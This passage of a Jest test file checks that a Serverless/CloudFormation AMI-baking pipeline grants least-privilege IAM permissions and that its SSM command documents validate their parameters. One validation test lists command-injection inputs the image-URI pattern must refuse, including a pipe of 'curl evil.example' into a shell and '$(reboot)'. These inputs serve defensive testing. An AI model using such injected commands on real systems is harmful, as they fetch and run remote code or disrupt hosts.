    it('has no framework default role: every function runs with its own', () => {
      expect(template.Resources.IamRoleLambdaExecution).toBeUndefined();
      expect(JSON.stringify(template)).not.toContain('"IamRoleLambdaExecution"');
    });

    const DECLARED_CALLS: Record<string, Pick<Step, 'calls'>> = { ...STEP_FUNCTIONS, ...API_FUNCTIONS };
    it.each(Object.keys(DECLARED_CALLS))(
      'grants %s exactly the calls functions/steps.ts (a step) or API_FUNCTIONS declares, which are the calls its bundle makes',
      (key) => {
        const declared = [...DECLARED_CALLS[key].calls].sort();
        expect({ function: key, calls: awsCallsOfFunction(key) }).toEqual({ function: key, calls: declared });
        const gaps = grantGaps(statementsOfRole(template, roleId(key)), declared);
        expect({ function: key, ...gaps }).toEqual({ function: key, missing: [], unused: [] });
      },
    );

    it.each(ALL_FUNCTIONS)('grants %s every AWS call its bundle makes, and nothing it does not use', (key) => {
      const gaps = grantGaps(statementsOfRole(template, roleId(key)), awsCallsOfFunction(key));
      expect({ function: key, ...gaps }).toEqual({ function: key, missing: [], unused: [] });
    });

    it('holds every function of the template to the same rule, listed in this file or not', () => {
      const gaps: Record<string, { missing: string[]; unused: string[] }> = {};
      for (const [id, fn] of Object.entries(template.Resources).filter(([, r]) => r.Type === 'AWS::Lambda::Function')) {
        const key = path.basename((fn.Properties.Code as { S3Key: string }).S3Key, '.zip');
        const role = (fn.Properties.Role as { 'Fn::GetAtt': [string, string] })['Fn::GetAtt'][0];
        const found = grantGaps(statementsOfRole(template, role), awsCallsOfFunction(key));
        if (found.missing.length > 0 || found.unused.length > 0) gaps[id] = found;
      }
      expect(gaps).toEqual({});
    });

    it('refuses, in its own check, a grant no call needs and a call no grant allows', () => {
      const statement = (Action: string[]): Statement => ({ Effect: 'Allow', Action, Resource: '*' });
      expect(grantGaps([statement(['ec2:DescribeImages', 'ec2:CreateTags'])], ['ec2:DescribeImages'])).toEqual({
        missing: [],
        unused: ['ec2:CreateTags'],
      });
      expect(grantGaps([statement(['ec2:CreateImage', 'ec2:CreateTags'])], ['ec2:CreateImage'])).toEqual({ missing: [], unused: [] });
      expect(grantGaps([statement(['ec2:DescribeImages'])], ['ec2:DescribeImages', 'ec2:DeregisterImage'])).toEqual({
        missing: ['ec2:DeregisterImage'],
        unused: [],
      });
    });

    it('grants no wildcard action anywhere', () => {
      for (const { role, statement } of allStatements(template)) {
        for (const action of list(statement.Action)) expect([role, action]).not.toEqual([role, expect.stringMatching(/(^\*$|:\*$)/)]);
        expect(statement.Effect).toBe('Allow');
      }
    });

    it('allows Resource "*" without a condition only for reads (and the log delivery and agent channel AWS documents with "*")', () => {
      // AWS documents Resource "*" for these: CloudWatch Logs delivery has no resource-level permissions.
      const logDelivery = new Set([
        'logs:CreateLogDelivery',
        'logs:GetLogDelivery',
        'logs:UpdateLogDelivery',
        'logs:DeleteLogDelivery',
        'logs:ListLogDeliveries',
        'logs:PutResourcePolicy',
        'logs:DescribeResourcePolicies',
        'logs:DescribeLogGroups',
      ]);
      for (const { role, statement } of allStatements(template)) {
        if (!list(statement.Resource).includes('*') || statement.Condition) continue;
        for (const action of list(statement.Action)) {
          const read = /^[a-z0-9-]+:(Describe|Get|List)/.test(action) && !/^ssm:GetParameter/.test(action);
          const allowed =
            read ||
            (role === 'BakeAmiStateMachineRole' && logDelivery.has(action)) ||
            (role === 'BuilderRole' && AGENT_CHANNEL.includes(action));
          expect([role, action, allowed]).toEqual([role, action, true]);
        }
      }
    });

    it('terminates, stops, deregisters, deletes and modifies only what the pipeline tagged', () => {
      for (const action of [
        'ec2:TerminateInstances',
        'ec2:StopInstances',
        'ec2:DeregisterImage',
        'ec2:DeleteSnapshot',
        'ec2:ModifyImageAttribute',
      ]) {
        const found = withAction(action);
        expect(found.length).toBeGreaterThan(0);
        for (const { role, statement } of found) {
          expect([role, action, statement.Condition]).toEqual([role, action, resourceTag]);
          expect(list(statement.Resource)).not.toContain('*');
        }
      }
    });

    it('launches only the configured instance types with IMDSv2 and the builder profile, tagged, from own or base-owner images, in the configured network', () => {
      const found = withAction('ec2:RunInstances');
      expect(new Set(found.map((f) => f.role))).toEqual(new Set([roleId('launchBuilder'), roleId('launchTestInstance')]));
      // The test instance launches under the very same statements (one YAML anchor).
      const launchOnly = (key: string) =>
        statementsOfRole(template, roleId(key)).filter((st) => !JSON.stringify(st.Resource).includes(':log-group:/aws/lambda/'));
      expect(launchOnly('launchTestInstance')).toEqual(launchOnly('launchBuilder'));
      const byType = runInstancesByResourceType(template);
      // No spot-instances-request: the shipped config asks for no Spot builder, so a Spot launch is refused.
      expect(JSON.stringify(template.Resources)).not.toContain('spot-instances-request');
      expect(Object.keys(byType).sort()).toEqual(['image', 'instance', 'network-interface', 'security-group', 'subnet', 'volume']);
      const types = [...new Set(Object.keys(config.environments).flatMap((env) => environmentInstanceTypes(config, env)))].sort();
      expect(types).toEqual(['g4dn.xlarge', 'g5.xlarge']);
      expect(byType.instance.Condition).toEqual({
        StringEquals: {
          [`aws:RequestTag/${TAG.managedBy}`]: MANAGED_BY,
          'ec2:InstanceType': types,
          'ec2:MetadataHttpTokens': 'required',
          'ec2:InstanceProfile': { 'Fn::GetAtt': ['BuilderInstanceProfile', 'Arn'] },
        },
      });
      expect(byType.volume.Condition).toEqual({
        StringEquals: { [`aws:RequestTag/${TAG.managedBy}`]: MANAGED_BY },
        Bool: { 'ec2:Encrypted': 'true' },
      });
      // The default base image parameter is Canonical's: its images, and this account's own AMIs.
      expect(byType.image.Condition).toEqual({ StringEquals: { 'ec2:Owner': [{ Ref: 'AWS::AccountId' }, '099720109477'] } });
      expect(byType['network-interface'].Condition).toEqual({
        Bool: { 'ec2:AssociatePublicIpAddress': String(config.builder.associatePublicIpAddress) },
      });
      // No subnet in the config: the default subnet, which no ARN names in advance.
      expect(list(byType.subnet.Resource).map(refText)).toEqual(['arn:${AWS::Partition}:ec2:${AWS::Region}:${AWS::AccountId}:subnet/*']);
      expect(byType['security-group'].Resource).toEqual({
        'Fn::If': [
          'CreateBuilderSecurityGroup',
          [{ 'Fn::Sub': 'arn:${AWS::Partition}:ec2:${AWS::Region}:${AWS::AccountId}:security-group/${BuilderSecurityGroup.GroupId}' }],
          [],
        ],
      });
    });

    it('creates images only of tagged builders, and only tagged images and snapshots', () => {
      const found = withAction('ec2:CreateImage');
      expect(new Set(found.map((f) => f.role))).toEqual(new Set([roleId('createImage')]));
      const byResource = new Map<string, Statement['Condition']>();
      for (const { statement } of found) {
        expect(list(statement.Action)).toEqual(['ec2:CreateImage']);
        for (const r of list(statement.Resource).map(refText)) byResource.set(r.replace(/.*:([a-z-]+)\/\*$/, '$1'), statement.Condition);
      }
      expect(Object.fromEntries(byResource)).toEqual({ instance: resourceTag, image: requestTag, snapshot: requestTag });
    });

    it('tags only in the request that creates the resource, and only with the managed-by tag (no tag can be forged onto an existing resource)', () => {
      const found = withAction('ec2:CreateTags');
      expect(found.map((f) => f.role).sort()).toEqual(
        [roleId('createImage'), roleId('launchBuilder'), roleId('launchTestInstance')].sort(),
      );
      const createActions: Record<string, string> = {
        [roleId('launchBuilder')]: 'RunInstances',
        [roleId('launchTestInstance')]: 'RunInstances',
        [roleId('createImage')]: 'CreateImage',
      };
      for (const { role, statement } of found) {
        expect([role, statement.Condition]).toEqual([
          role,
          { StringEquals: { 'ec2:CreateAction': createActions[role], [`aws:RequestTag/${TAG.managedBy}`]: MANAGED_BY } },
        ]);
        expect(list(statement.Action)).toEqual(['ec2:CreateTags']);
        expect(list(statement.Resource)).not.toContain('*');
      }
    });

    it('grants no key use without a configured EBS key', () => {
      const kms = allStatements(template)
        .flatMap(({ statement }) => list(statement.Action))
        .filter((a) => a.startsWith('kms:'));
      expect(kms).toEqual([]);
      expect(Object.values(template.Resources).filter((r) => r.Type === 'AWS::IAM::Policy')).toEqual([]);
    });

    it('passes only the builder role, only to EC2, only from the two launch steps', () => {
      const found = withAction('iam:PassRole');
      expect(found.map((f) => f.role)).toEqual([roleId('launchBuilder'), roleId('launchTestInstance')]);
      for (const { statement } of found) {
        expect(statement.Resource).toEqual({ 'Fn::GetAtt': ['BuilderRole', 'Arn'] });
        expect(statement.Condition).toEqual({ StringEquals: { 'iam:PassedToService': 'ec2.amazonaws.com' } });
      }
    });

    it('writes and deletes parameters only under the configured prefix', () => {
      const prefixArn = `arn:\${AWS::Partition}:ssm:\${AWS::Region}:\${AWS::AccountId}:parameter${config.parameterPrefix}/*`;
      // The image check of the request reads only each environment's history/ path (authorized on the path).
      const historyArn = `arn:\${AWS::Partition}:ssm:\${AWS::Region}:\${AWS::AccountId}:parameter${config.parameterPrefix}/*/history`;
      const historyReaders = new Set([roleId('normalizeRequest'), roleId('startBuild'), roleId('startEnvironmentAction')]);
      for (const action of [
        'ssm:PutParameter',
        'ssm:DeleteParameter',
        'ssm:DeleteParameters',
        'ssm:GetParametersByPath',
        'ssm:GetParameterHistory',
      ]) {
        for (const { role, statement } of withAction(action)) {
          const expected = historyReaders.has(role) && action === 'ssm:GetParametersByPath' ? historyArn : prefixArn;
          expect([role, action, list(statement.Resource).map(refText)]).toEqual([role, action, [expected]]);
        }
      }
      const reads = withAction('ssm:GetParameter').flatMap(({ statement }) => list(statement.Resource).map(refText));
      for (const arn of reads) {
        const allowed =
          arn === prefixArn ||
          ('parameter' in config.baseImage && arn === `arn:\${AWS::Partition}:ssm:\${AWS::Region}::parameter${config.baseImage.parameter}`);
        expect([arn, allowed]).toEqual([arn, true]);
      }
    });

    it('sends commands only with the pipeline documents, each from its own step, only to tagged instances', () => {
      const found = withAction('ssm:SendCommand');
      expect(new Set(found.map((f) => f.role))).toEqual(new Set([roleId('sendUpdateCommand'), roleId('sendHealthCheck')]));
      const documentArn = (d: string) => `arn:\${AWS::Partition}:ssm:\${AWS::Region}:\${AWS::AccountId}:document/${d}`;
      for (const { role, statement } of found) {
        const documentArns =
          role === roleId('sendHealthCheck')
            ? [documentArn(config.documents.healthCheck)]
            : [config.documents.fresh, config.documents.incremental].map(documentArn);
        expect(list(statement.Action)).toEqual(['ssm:SendCommand']);
        const resources = list(statement.Resource).map(refText);
        if (resources.some((r) => r.includes(':instance/'))) {
          expect(resources).toEqual([expect.stringMatching(/:instance\/\*$/)]);
          expect(statement.Condition).toEqual(resourceTag);
        } else {
          expect(resources.sort()).toEqual(documentArns.sort());
        }
      }
    });

    it('starts and reads executions of this state machine only', () => {
      const start = withAction('states:StartExecution');
      expect(start.map((f) => [f.role, f.statement.Resource])).toEqual([
        [roleId('startBuild'), { Ref: 'BakeAmiStateMachine' }],
        [roleId('startEnvironmentAction'), { Ref: 'BakeAmiStateMachine' }],
      ]);
      const name = stateMachine(template).Properties.StateMachineName as string;
      const executions = { 'Fn::Sub': `arn:\${AWS::Partition}:states:\${AWS::Region}:\${AWS::AccountId}:execution:${name}:*` };
      const readers = {
        'states:DescribeExecution': [roleId('acquireLock'), roleId('buildStatus'), roleId('cancelBuild')],
        'states:GetExecutionHistory': [roleId('buildStatus'), roleId('announceResult'), roleId('cancelBuild')],
      };
      for (const [action, roles] of Object.entries(readers)) {
        const found = withAction(action);
        expect(found.map((f) => f.role).sort()).toEqual(roles.sort());
        for (const { statement } of found) expect(statement.Resource).toEqual(executions);
      }
      // The waits and the event receiver resume paused executions of this state machine, by its ARN.
      const wake = withAction('states:SendTaskSuccess');
      expect(wake.map((f) => f.role).sort()).toEqual([roleId('awaitEvent'), roleId('receiveEvent')].sort());
      const machine = { 'Fn::Sub': `arn:\${AWS::Partition}:states:\${AWS::Region}:\${AWS::AccountId}:stateMachine:${name}` };
      for (const { statement } of wake) expect(statement.Resource).toEqual(machine);
      const states = allStatements(template)
        .flatMap(({ statement }) => list(statement.Action))
        .filter((a) => a.startsWith('states:'));
      expect(new Set(states)).toEqual(new Set(['states:StartExecution', 'states:SendTaskSuccess', ...Object.keys(readers)]));
    });

    it('reads and writes only the lock table in DynamoDB', () => {
      const dynamodb = allStatements(template).filter(({ statement }) => list(statement.Action).some((a) => a.startsWith('dynamodb:')));
      // Besides these, only cancel records (next test).
      const cancelCondition = { 'ForAllValues:StringLike': { 'dynamodb:LeadingKeys': ['cancel:*'] } };
      const unconditioned = dynamodb.filter(({ statement }) => JSON.stringify(statement.Condition) !== JSON.stringify(cancelCondition));
      expect([...new Set(unconditioned.map((f) => f.role))].sort()).toEqual(
        [
          roleId('acquireLock'),
          roleId('releaseLock'),
          roleId('cleanUp'),
          roleId('normalizeRequest'),
          roleId('startBuild'),
          roleId('awaitEvent'),
          roleId('receiveEvent'),
          roleId('announceResult'),
        ].sort(),
      );
      for (const { statement } of dynamodb) expect(statement.Resource).toEqual({ 'Fn::GetAtt': ['LockTable', 'Arn'] });
      expect(template.Resources.LockTable.Properties).toMatchObject({
        TableName: config.lock.table,
        BillingMode: 'PAY_PER_REQUEST',
        KeySchema: [{ AttributeName: 'environment', KeyType: 'HASH' }],
      });
    });

    it('reads ECR only in the configured repositories (the login token aside)', () => {
      const repositoryArns = config.repositories
        .map((r) => `arn:\${AWS::Partition}:ecr:\${AWS::Region}:\${AWS::AccountId}:repository/${r}`)
        .sort();
      for (const { role, statement } of allStatements(template)) {
        const ecr = list(statement.Action).filter((a) => a.startsWith('ecr:'));
        if (ecr.length === 0) continue;
        if (ecr.includes('ecr:GetAuthorizationToken')) {
          expect([role, list(statement.Action)]).toEqual([role, ['ecr:GetAuthorizationToken']]);
          continue;
        }
        expect([role, list(statement.Resource).map(refText).sort()]).toEqual([role, repositoryArns]);
      }
    });
  });

  describe('builder infrastructure', () => {
    it('creates the instance profile named in the config, around a role with the SSM agent channel, ECR pull and command logs only', () => {
      const profile = Object.values(template.Resources).find((r) => r.Type === 'AWS::IAM::InstanceProfile')!;
      expect(profile.Properties.InstanceProfileName).toBe(config.builder.instanceProfile);
      expect(profile.Properties.Roles).toEqual([{ Ref: 'BuilderRole' }]);
      const role = template.Resources.BuilderRole;
      // No managed policy: AmazonSSMManagedInstanceCore would let the builder read every parameter.
      expect(role.Properties.ManagedPolicyArns).toBeUndefined();
      const assume = role.Properties.AssumeRolePolicyDocument as { Statement: { Principal: unknown }[] };
      expect(assume.Statement.map((s) => s.Principal)).toEqual([{ Service: 'ec2.amazonaws.com' }]);
      const statements = statementsOfRole(template, 'BuilderRole');
      const actions = [...grantedActions(statements)].sort();
      expect(actions).toEqual(
        [
          ...AGENT_CHANNEL,
          'ssm:UpdateInstanceInformation',
          'ecr:BatchCheckLayerAvailability',
          'ecr:BatchGetImage',
          'ecr:GetAuthorizationToken',
          'ecr:GetDownloadUrlForLayer',
          'logs:CreateLogStream',
          'logs:DescribeLogGroups',
          'logs:DescribeLogStreams',
          'logs:PutLogEvents',
        ].sort(),
      );
      expect(actions.filter((a) => /^ssm:(Get|Describe|List)|^kms:|^secretsmanager:/.test(a))).toEqual([]);
      const register = statements.find((s) => list(s.Action).includes('ssm:UpdateInstanceInformation'))!;
      expect(list(register.Action)).toEqual(['ssm:UpdateInstanceInformation']);
      expect(refText(register.Resource)).toBe('arn:${AWS::Partition}:ec2:${AWS::Region}:${AWS::AccountId}:instance/*');
      expect(register.Condition).toEqual({ StringEquals: { [`aws:ResourceTag/${TAG.managedBy}`]: MANAGED_BY } });
      const writes = statements.filter((s) => list(s.Action).includes('logs:PutLogEvents'));
      expect(list(writes[0].Resource).map(refText)).toEqual([
        `arn:\${AWS::Partition}:logs:\${AWS::Region}:\${AWS::AccountId}:log-group:${config.commandLogGroup}:*`,
      ]);
    });

    it('creates the builder security group only when the config names none: no inbound rule, outbound HTTPS only, in the VPC given', () => {
      expect(config.builder.securityGroupIds).toEqual([]);
      const groups = Object.entries(template.Resources).filter(([, r]) => r.Type === 'AWS::EC2::SecurityGroup');
      expect(groups.map(([id]) => id)).toEqual(['BuilderSecurityGroup']);
      const group = groups[0][1];
      expect(group.Condition).toBe('CreateBuilderSecurityGroup');
      expect(template.Conditions?.CreateBuilderSecurityGroup).toEqual({ 'Fn::Equals': ['', ''] });
      expect(group.Properties.SecurityGroupIngress).toBeUndefined();
      expect(group.Properties.SecurityGroupEgress).toEqual([
        { Description: expect.any(String), IpProtocol: 'tcp', FromPort: 443, ToPort: 443, CidrIp: '0.0.0.0/0' },
      ]);
      expect(
        Object.values(template.Resources).filter(
          (r) => r.Type === 'AWS::EC2::SecurityGroupIngress' || r.Type === 'AWS::EC2::SecurityGroupEgress',
        ),
      ).toHaveLength(0);
      expect(group.Properties.VpcId).toEqual({ Ref: 'BuilderVpcId' });
      expect(template.Parameters?.BuilderVpcId).toEqual(expect.objectContaining({ Type: 'String', Default: '' }));
      // A missing VPC is refused before anything is created, naming the parameter.
      const rule = template.Rules?.BuilderVpcForTheSecurityGroup;
      expect(rule?.RuleCondition).toEqual({ 'Fn::Equals': ['', ''] });
      expect(rule?.Assertions).toEqual([
        {
          Assert: { 'Fn::Not': [{ 'Fn::Equals': [{ Ref: 'BuilderVpcId' }, ''] }] },
          AssertDescription: expect.stringContaining('builderVpcId'),
        },
      ]);
    });

    it('creates the command log group named in the config', () => {
      expect(template.Resources.CommandLogGroup.Properties).toEqual({ LogGroupName: config.commandLogGroup, RetentionInDays: 30 });
    });

    describe.each([
      ['FreshInstallDocument', 'fresh'],
      ['UpdateDocument', 'incremental'],
      ['HealthCheckDocument', 'healthCheck'],
    ] as const)('%s', (logicalId, which) => {
      const document = () => template.Resources[logicalId].Properties;
      const parameters = () =>
        (document().Content as { parameters: Record<string, { type: string; allowedPattern?: string; allowedValues?: string[] }> })
          .parameters;
      const imageUri = `123456789012.dkr.ecr.us-east-1.amazonaws.com/comfyui@sha256:${'ab'.repeat(32)}`;

      it('is a Command document named in the config, updated in place as new versions', () => {
        expect(document().Name).toBe(config.documents[which]);
        expect(document().DocumentType).toBe('Command');
        expect(document().UpdateMethod).toBe('NewVersion');
        expect(JSON.stringify(document().Content)).not.toMatch(/\$\{(self|file|opt|param|sls|env|aws):/);
      });

      it('takes the parameters the send step passes, each held to a pattern or a list of values', () => {
        const params = parameters();
        for (const name of ['ImageUri', 'Gpu', 'ContainerPort']) expect(Object.keys(params)).toContain(name);
        for (const [name, p] of Object.entries(params)) {
          expect([name, p.allowedPattern !== undefined || p.allowedValues !== undefined]).toEqual([name, true]);
        }
      });

      it('accepts a digest-pinned image of a configured repository and refuses anything else', () => {
        const pattern = new RegExp(parameters().ImageUri.allowedPattern!);
        expect(pattern.test(imageUri)).toBe(true);
        for (const bad of [
          `${imageUri}; curl evil.example | sh`,
          imageUri.replace('@sha256:', ':'),
          imageUri.replace('/comfyui@', '/other@'),
          `docker.io/library/comfyui@sha256:${'ab'.repeat(32)}`,
          '$(reboot)',
        ]) {
          expect([bad, pattern.test(bad)]).toEqual([bad, false]);
        }
      });
    });
  });

  it('leaves no unresolved Serverless variable in the template', () => {
    expect(JSON.stringify(template)).not.toMatch(/\$\{(self|file|opt|param|sls|env|aws|cf|ssm|s3):/);
  });
});
